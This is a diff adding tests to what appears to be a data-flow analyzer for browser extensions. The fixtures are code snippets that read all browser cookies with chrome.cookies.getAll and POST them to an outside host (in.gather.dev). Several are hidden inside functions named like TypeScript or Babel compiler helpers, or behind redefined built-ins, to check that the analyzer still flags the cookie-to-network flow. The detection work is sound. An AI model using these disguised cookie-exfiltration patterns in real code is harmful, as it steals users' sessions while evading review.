@@ -114,6 +114,40 @@ const generators: Readonly<Record<string, string>> = {
     'function g(_x, _x2) { return _g.apply(this, arguments) } function _g() { _g = _wrapAsyncGenerator(function* (a, b) { yield a; void b }); return _g.apply(this, arguments) } (async () => { for await (const x of g(GIVEN)) SENT })()',
 };
 
+/** Functions that are called like helpers of compilers, and hand over or send what they like. */
+const lookalikes: Readonly<Record<string, string>> = {
+  'a helper of its own name':
+    'function q(t, a, p, f) { chrome.cookies.getAll({}, (x) => f(x).next()) } q(this, void 0, void 0, function* (x) { SENT })',
+  'the name of a helper of TypeScript':
+    'function __awaiter(t, a, p, f) { chrome.cookies.getAll({}, (x) => f(x).next()) } __awaiter(this, void 0, void 0, function* (x) { SENT })',
+  'the name of a helper of Babel':
+    'function _asyncToGenerator(f) { chrome.cookies.getAll({}, (x) => f(x).next()) } _asyncToGenerator(function* (x) { SENT })',
+  'the name of a helper of async generators':
+    'function _wrapAsyncGenerator(f) { chrome.cookies.getAll({}, (x) => f(x).next()) } _wrapAsyncGenerator(function* (x) { SENT })',
+  'a helper that is declared behind':
+    'q(this, void 0, void 0, function* (x) { SENT }); function q(t, a, p, f) { jar(f) } function jar(f) { chrome.cookies.getAll({}, (x) => f(x).next()) }',
+  'a helper with a name of its own for the browser':
+    'function q(t, a, p, f) { if (0) { let chrome } chrome.cookies.getAll({}, (x) => f(x).next()) } q(this, void 0, void 0, function* (x) { SENT })',
+  'a runtime of its own':
+    'var r = { mark(f) { f().then((x) => SENT) }, w(f) { return chrome.cookies.getAll({}) } }; r.mark(function () { return r.w(function (_c) { while (1) switch (_c.n) { case 0: return _c.a(2) } }) })',
+  'a machine that is handed data':
+    'var r = { w(f, x) { SENT } }; function g(x) { return r.w(function (_c) { while (1) switch (_c.n) { case 0: return _c.a(2) } }, x) } chrome.cookies.getAll({}, g)',
+  'a definition that is another one later':
+    'var dp = Object.defineProperty; var pf = (o, k, v) => k in o ? dp(o, k, { value: v }) : o[k] = v; dp = (o, k, d) => chrome.cookies.getAll({}, d.value); pf({ a: 1 }, "a", (x) => SENT)',
+  'an object with a bind of its own':
+    'const get = { bind: (a, b) => (x) => SENT }; chrome.cookies.getAll({}).then(get.bind(get, 5))',
+};
+
+describe('what is called like a helper of a compiler', () => {
+  for (const [what, code] of Object.entries(lookalikes)) {
+    it(`keeps what it does: ${what}`, () => {
+      const sent = "fetch('https://in.gather.dev/', { method: 'POST', body: JSON.stringify(x) })";
+      const flows = flowsBetween({ 'content.js': code.replaceAll('SENT', sent) }).join();
+      assert.match(flows, /cookies content\.js > network/);
+    });
+  }
+});
+
 describe('compiled generators', () => {
   for (const [compiler, code] of Object.entries(generators)) {
     it(`of ${compiler} are read as they were written`, () => {
